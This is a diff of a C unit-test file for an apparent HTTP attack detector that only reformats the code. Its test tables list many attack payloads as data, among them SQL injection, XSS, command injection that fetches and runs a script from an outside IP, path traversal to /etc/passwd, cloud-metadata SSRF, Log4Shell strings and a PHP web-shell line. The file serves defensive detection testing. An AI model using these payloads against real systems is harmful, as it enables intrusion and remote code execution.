@@ -30,7 +30,8 @@ static int teardown(void **state) {
 }
 
 /* The id of the first attack that a call raises, "" for none. */
-static const char *judge(struct bench *b, enum place place, const char *value, const char *answer, enum outcome *outcome) {
+static const char *judge(struct bench *b, enum place place, const char *value, const char *answer,
+                         enum outcome *outcome) {
   static char id[64];
   struct txn t = {.kind = TXN_CALL, .status = 200};
   struct api_event e = {.txn = &t};
@@ -46,7 +47,11 @@ static const char *judge(struct bench *b, enum place place, const char *value, c
   if (place == PLACE_COOKIE) txn_header(&t, &t.side[0].headers, SPAN_LIT("Cookie"), span_str(value));
   if (answer) buf_put(&t.side[1].raw, span_str(answer));
   inspect_begin(b->in, &t, &e);
-  struct leaf l = {.path = SPAN_LIT("q"), .key = SPAN_LIT("q"), .value = span_str(value), .raw = span_str(value), .type = LEAF_STRING};
+  struct leaf l = {.path = SPAN_LIT("q"),
+                   .key = SPAN_LIT("q"),
+                   .value = span_str(value),
+                   .raw = span_str(value),
+                   .type = LEAF_STRING};
   if (place == PLACE_BODY) inspect_value(b->in, PLACE_BODY, &l);
   inspect_call(b->in);
   id[0] = 0;
@@ -62,36 +67,70 @@ static const char *judge(struct bench *b, enum place place, const char *value, c
 }
 
 static void test_attacks(void **state) {
-  static const struct { enum place place; const char *value, *id; } rows[] = {
-    {PLACE_BODY, "1' OR '1'='1", "sqli"}, {PLACE_BODY, "-1 union all select null,version()-- -", "sqli"}, {PLACE_BODY, "1;waitfor delay '0:0:5'--", "sqli"},
-    {PLACE_QUERY, "id=1%2527%2520or%25201%253D1%2523", "sqli"}, {PLACE_BODY, "1 and (select count(*) from users)>0", "sqli"}, {PLACE_BODY, "admin'--", "sqli"},
-    {PLACE_BODY, "1/**/uNiOn/**/sElEcT/**/1,2,3", "sqli"}, {PLACE_PATH, "/loans/1' or '1'='1/schedule", "sqli"},
-    {PLACE_BODY, "<script>alert(1)</script>", "xss"}, {PLACE_BODY, "\" onmouseover=alert(1) x=\"", "xss"}, {PLACE_QUERY, "q=%3Csvg/onload%3Dalert(1)%3E", "xss"}, {PLACE_BODY, "jav\tascript:alert(1)", "xss"},
-    {PLACE_BODY, "127.0.0.1; cat /etc/passwd", "cmdi"}, {PLACE_BODY, "x`id`", "cmdi"}, {PLACE_BODY, "$(curl http://1.2.3.4/x|sh)", "cmdi"}, {PLACE_BODY, ";c''at${IFS}/etc/hosts", "cmdi"},
-    {PLACE_QUERY, "f=..%252f..%252fetc/passwd", "traversal"}, {PLACE_PATH, "/static/..%c0%af..%c0%afetc/passwd", "traversal"}, {PLACE_BODY, "....//....//etc/passwd", "traversal"},
-    {PLACE_BODY, "php://filter/convert.base64-encode/resource=index.php", "file_inclusion"}, {PLACE_BODY, "http://169.254.169.254/latest/meta-data/", "ssrf"}, {PLACE_BODY, "http://0x7f000001/", "ssrf"},
-    {PLACE_HEADER, "${jndi:ldap://x.example/a}", "log4shell"}, {PLACE_BODY, "${${lower:j}${::-n}di:rmi://x/a}", "log4shell"}, {PLACE_BODY, "{{7*7}}", "ssti"}, {PLACE_BODY, "{{''.__class__.__mro__[1].__subclasses__()}}", "ssti"},
-    {PLACE_BODY, "T(java.lang.Runtime).getRuntime().exec('id')", "java_injection"}, {PLACE_BODY, "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "deserialization"}, {PLACE_BODY, "O:8:\"Evil\":1:{s:1:\"a\";i:1;}", "deserialization"},
-    {PLACE_QUERY, "class.module.classLoader.resources.context=x", "spring4shell"}, {PLACE_QUERY, "user[$ne]=1", "nosqli"}, {PLACE_QUERY, "x=%0d%0aSet-Cookie:%20a=b", "crlf"}, {PLACE_HEADER, "sqlmap/1.7 (https://sqlmap.org)", "scanner"},
-    {PLACE_BODY, "<?php system($_GET['c']); ?>", "php_injection"}, {PLACE_BODY, "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>", "xxe"}, {PLACE_BODY, "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss"},
+  /* clang-format off */
+  static const struct {
+    enum place place; const char *value, *id; } rows[] = {
+    {PLACE_BODY, "1' OR '1'='1", "sqli"}, {PLACE_BODY, "-1 union all select null,version()-- -", "sqli"},
+    {PLACE_BODY, "1;waitfor delay '0:0:5'--", "sqli"},
+    {PLACE_QUERY, "id=1%2527%2520or%25201%253D1%2523", "sqli"},
+    {PLACE_BODY, "1 and (select count(*) from users)>0", "sqli"}, {PLACE_BODY, "admin'--", "sqli"},
+    {PLACE_BODY, "1/**/uNiOn/**/sElEcT/**/1,2,3", "sqli"},
+    {PLACE_PATH, "/loans/1' or '1'='1/schedule", "sqli"},
+    {PLACE_BODY, "<script>alert(1)</script>", "xss"}, {PLACE_BODY, "\" onmouseover=alert(1) x=\"", "xss"},
+    {PLACE_QUERY, "q=%3Csvg/onload%3Dalert(1)%3E", "xss"}, {PLACE_BODY, "jav\tascript:alert(1)", "xss"},
+    {PLACE_BODY, "127.0.0.1; cat /etc/passwd", "cmdi"}, {PLACE_BODY, "x`id`", "cmdi"},
+    {PLACE_BODY, "$(curl http://1.2.3.4/x|sh)", "cmdi"}, {PLACE_BODY, ";c''at${IFS}/etc/hosts", "cmdi"},
+    {PLACE_QUERY, "f=..%252f..%252fetc/passwd", "traversal"},
+    {PLACE_PATH, "/static/..%c0%af..%c0%afetc/passwd", "traversal"},
+    {PLACE_BODY, "....//....//etc/passwd", "traversal"},
+    {PLACE_BODY, "php://filter/convert.base64-encode/resource=index.php", "file_inclusion"},
+    {PLACE_BODY, "http://169.254.169.254/latest/meta-data/", "ssrf"},
+    {PLACE_BODY, "http://0x7f000001/", "ssrf"},
+    {PLACE_HEADER, "${jndi:ldap://x.example/a}", "log4shell"},
+    {PLACE_BODY, "${${lower:j}${::-n}di:rmi://x/a}", "log4shell"}, {PLACE_BODY, "{{7*7}}", "ssti"},
+    {PLACE_BODY, "{{''.__class__.__mro__[1].__subclasses__()}}", "ssti"},
+    {PLACE_BODY, "T(java.lang.Runtime).getRuntime().exec('id')", "java_injection"},
+    {PLACE_BODY, "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "deserialization"},
+    {PLACE_BODY, "O:8:\"Evil\":1:{s:1:\"a\";i:1;}", "deserialization"},
+    {PLACE_QUERY, "class.module.classLoader.resources.context=x", "spring4shell"},
+    {PLACE_QUERY, "user[$ne]=1", "nosqli"}, {PLACE_QUERY, "x=%0d%0aSet-Cookie:%20a=b", "crlf"},
+    {PLACE_HEADER, "sqlmap/1.7 (https://sqlmap.org)", "scanner"},
+    {PLACE_BODY, "<?php system($_GET['c']); ?>", "php_injection"},
+    {PLACE_BODY, "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>", "xxe"},
+    {PLACE_BODY, "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss"},
     {PLACE_BODY, "*)(uid=*))(|(uid=*", "ldapi"}, {PLACE_BODY, "' or count(/child::node())=1 or 'a'='b", NULL},
   };
+  /* clang-format on */
   for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
     const char *id = judge(*state, rows[i].place, rows[i].value, NULL, NULL);
-    if (rows[i].id && strcmp(id, rows[i].id) != 0) fail_msg("%s: \"%s\", expected %s", rows[i].value, id, rows[i].id);
+    if (rows[i].id && strcmp(id, rows[i].id) != 0)
+      fail_msg("%s: \"%s\", expected %s", rows[i].value, id, rows[i].id);
     if (!*id) fail_msg("%s: nothing", rows[i].value);
   }
 }
 
 static void test_ordinary(void **state) {
-  static const struct { enum place place; const char *value; } rows[] = {
-    {PLACE_BODY, "O'Connor & Sons, Dublin"}, {PLACE_BODY, "7 and a half"}, {PLACE_BODY, "please select one from the list"}, {PLACE_BODY, "4.7\" & iPhone 6 Plus 5.5"}, {PLACE_BODY, "union of workers, 1950"},
-    {PLACE_BODY, "2026-01-05T10:11:12+08:00"}, {PLACE_BODY, "C/ Mayor; 4, 2B"}, {PLACE_BODY, "a < b and c > d"}, {PLACE_BODY, "<b>bold</b> text <a href=\"/x\">y</a>"}, {PLACE_BODY, "price is $5; 10% off (today)"},
-    {PLACE_BODY, "https://hooks.partner.example/cb/22d8e3a1"}, {PLACE_BODY, "Dear ${name}, welcome"}, {PLACE_BODY, "images/logo.v2.png"}, {PLACE_BODY, "id"}, {PLACE_BODY, "\xe5\xbc\xa0\xe4\xb8\x89 \xe5\x8c\x97\xe4\xba\xac\xe5\xb8\x82"},
-    {PLACE_HEADER, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"}, {PLACE_HEADER, "Apache-HttpClient/4.5.14 (Java/17.0.9)"},
-    {PLACE_COOKIE, "SESSIONID=0b74c19c80624387befd7f9d49bc340d; lang=zh-CN; _ga=GA1.2.102972"}, {PLACE_PATH, "/api/customer/v1/customers/10023/profile"}, {PLACE_QUERY, "page=1&size=20&sort=created,desc&filter=status:open"},
-    {PLACE_QUERY, "q=black+and+%22shower+curtain%22"}, {PLACE_BODY, "foo 'null' bar"}, {PLACE_BODY, "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1MSJ9.c2lnbmF0dXJl"}, {PLACE_BODY, "select name"},
+  /* clang-format off */
+  static const struct {
+    enum place place; const char *value; } rows[] = {
+    {PLACE_BODY, "O'Connor & Sons, Dublin"}, {PLACE_BODY, "7 and a half"},
+    {PLACE_BODY, "please select one from the list"}, {PLACE_BODY, "4.7\" & iPhone 6 Plus 5.5"},
+    {PLACE_BODY, "union of workers, 1950"},
+    {PLACE_BODY, "2026-01-05T10:11:12+08:00"}, {PLACE_BODY, "C/ Mayor; 4, 2B"},
+    {PLACE_BODY, "a < b and c > d"}, {PLACE_BODY, "<b>bold</b> text <a href=\"/x\">y</a>"},
+    {PLACE_BODY, "price is $5; 10% off (today)"},
+    {PLACE_BODY, "https://hooks.partner.example/cb/22d8e3a1"}, {PLACE_BODY, "Dear ${name}, welcome"},
+    {PLACE_BODY, "images/logo.v2.png"}, {PLACE_BODY, "id"},
+    {PLACE_BODY, "\xe5\xbc\xa0\xe4\xb8\x89 \xe5\x8c\x97\xe4\xba\xac\xe5\xb8\x82"},
+    {PLACE_HEADER, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"},
+    {PLACE_HEADER, "Apache-HttpClient/4.5.14 (Java/17.0.9)"},
+    {PLACE_COOKIE, "SESSIONID=0b74c19c80624387befd7f9d49bc340d; lang=zh-CN; _ga=GA1.2.102972"},
+    {PLACE_PATH, "/api/customer/v1/customers/10023/profile"},
+    {PLACE_QUERY, "page=1&size=20&sort=created,desc&filter=status:open"},
+    {PLACE_QUERY, "q=black+and+%22shower+curtain%22"}, {PLACE_BODY, "foo 'null' bar"},
+    {PLACE_BODY, "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1MSJ9.c2lnbmF0dXJl"}, {PLACE_BODY, "select name"},
   };
+  /* clang-format on */
   for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
     const char *id = judge(*state, rows[i].place, rows[i].value, NULL, NULL);
     if (*id) fail_msg("%s: %s", rows[i].value, id);
@@ -100,13 +139,15 @@ static void test_ordinary(void **state) {
 
 static void test_outcome(void **state) {
   enum outcome o = OUTCOME_NONE;
-  assert_string_equal(judge(*state, PLACE_QUERY, "f=../../etc/passwd", "root:x:0:0:root:/root:/bin/bash\n", &o), "traversal");
+  assert_string_equal(
+      judge(*state, PLACE_QUERY, "f=../../etc/passwd", "root:x:0:0:root:/root:/bin/bash\n", &o), "traversal");
   assert_int_equal(o, OUTCOME_SUCCESS);
   assert_string_equal(judge(*state, PLACE_QUERY, "f=../../etc/passwd", "{\"code\":404}", &o), "traversal");
   assert_int_equal(o, OUTCOME_ATTEMPTED);
 }
 
 int main(void) {
-  const struct CMUnitTest tests[] = {cmocka_unit_test(test_attacks), cmocka_unit_test(test_ordinary), cmocka_unit_test(test_outcome)};
+  const struct CMUnitTest tests[] = {cmocka_unit_test(test_attacks), cmocka_unit_test(test_ordinary),
+                                     cmocka_unit_test(test_outcome)};
   return cmocka_run_group_tests(tests, setup, teardown);
 }
